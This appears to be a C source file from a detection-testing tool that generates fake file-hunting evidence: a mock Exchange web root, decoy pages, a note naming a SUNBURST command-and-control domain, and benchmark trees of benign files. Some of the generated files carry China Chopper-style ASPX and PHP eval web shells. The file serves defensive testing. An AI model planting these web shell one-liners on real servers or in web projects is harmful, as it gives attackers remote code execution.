/* SPDX-License-Identifier: Apache-2.0
 *
 * File-hunting evidence: a fake Exchange server web root with one web
 * shell (a China Chopper style one-liner, inert here: nothing serves it)
 * dropped in aspnet_client beside the legitimate-looking pages, a note
 * naming a SUNBURST C2 domain, and benign files. `kensa-gen files` writes
 * bigger trees for benchmarks: --out DIR --files N [--shells K] [--seed S].
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdbool.h>
#include "gen.h"

static const char shell_aspx[] =
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"kensa-demo\"],\"unsafe\");%>\n";

static const char shell_php[] = "<?php @eval($_POST['kensa_demo']); ?>\n";

static const char logon_aspx[] =
    "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n"
    "<html><head><title>Outlook</title></head>\n"
    "<body><form action=\"/owa/auth.owa\" method=\"POST\">\n"
    "<input type=\"text\" name=\"username\"/><input type=\"password\" name=\"password\"/>\n"
    "</form></body></html>\n";

static const char web_config[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n"
    "  <system.web><compilation debug=\"false\" /></system.web>\n</configuration>\n";

static const char readme[] =
    "Orion maintenance notes: the old telemetry endpoint api.avsvmcloud.com was\n"
    "blocked at the proxy on 2020-12-14.\n";

int gen_files_demo(const char *dir)
{
    char d[4096];
    int rc = 0;
    snprintf(d, sizeof d, "%s/inetpub/wwwroot/aspnet_client/system_web/4_0_30319", dir);
    rc |= gen_mkdirs(d);
    snprintf(d, sizeof d, "%s/inetpub/wwwroot/aspnet_client", dir);
    rc |= gen_write_text(d, "OutlookEN.aspx", shell_aspx);
    snprintf(d, sizeof d, "%s/Exchange/FrontEnd/HttpProxy/owa/auth", dir);
    rc |= gen_write_text(d, "logon.aspx", logon_aspx);
    rc |= gen_write_text(d, "web.config", web_config);
    snprintf(d, sizeof d, "%s/Orion", dir);
    rc |= gen_write_text(d, "maintenance-notes.txt", readme);
    return rc;
}

/* A benign source-like text file of about n bytes. */
static void benign_text(FILE *fp, gen_rng *r, size_t n)
{
    static const char *const words[] = {
        "function", "return", "value", "config", "request", "response", "header", "session",
        "user", "table", "index", "render", "layout", "string", "number", "array", "object",
        "// comment", "{", "}", "(", ")", ";", "\n", "if", "else", "for", "while", "$this",
        "<div>", "</div>", "class", "public", "private", "static", "import", "include"};
    size_t w = 0;
    while (w < n) {
        const char *s = words[gen_below(r, sizeof words / sizeof words[0])];
        fputs(s, fp);
        fputc(' ', fp);
        w += strlen(s) + 1;
    }
}

int gen_files_run(int argc, char **argv)
{
    const char *out = NULL;
    long files = 1000, shells = 10;
    unsigned long long seed = 42;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "--out"))
            out = argv[i + 1];
        else if (!strcmp(argv[i], "--files"))
            files = strtol(argv[i + 1], NULL, 10);
        else if (!strcmp(argv[i], "--shells"))
            shells = strtol(argv[i + 1], NULL, 10);
        else if (!strcmp(argv[i], "--seed"))
            seed = strtoull(argv[i + 1], NULL, 10);
    }
    if (!out || files < 0 || shells < 0) {
        fprintf(stderr, "usage: kensa-gen files --out DIR [--files N] [--shells K] [--seed S]\n");
        return 2;
    }
    gen_rng r = {seed ? seed : 1};
    for (long i = 0; i < files; i++) {
        char d[4096], name[64];
        snprintf(d, sizeof d, "%s/d%02ld", out, i % 64);
        bool shell = i < shells;
        snprintf(name, sizeof name, "f%06ld.%s", i, shell ? (i % 2 ? "php" : "aspx") : "txt");
        FILE *fp = gen_open(d, name);
        if (!fp)
            return 1;
        if (shell) {
            benign_text(fp, &r, 200);
            fputs(i % 2 ? shell_php : shell_aspx, fp);
        } else {
            benign_text(fp, &r, 512 + gen_below(&r, 64 * 1024));
        }
        fclose(fp);
    }
    printf("%ld files (%ld shells) under %s\n", files, shells, out);
    return 0;
}
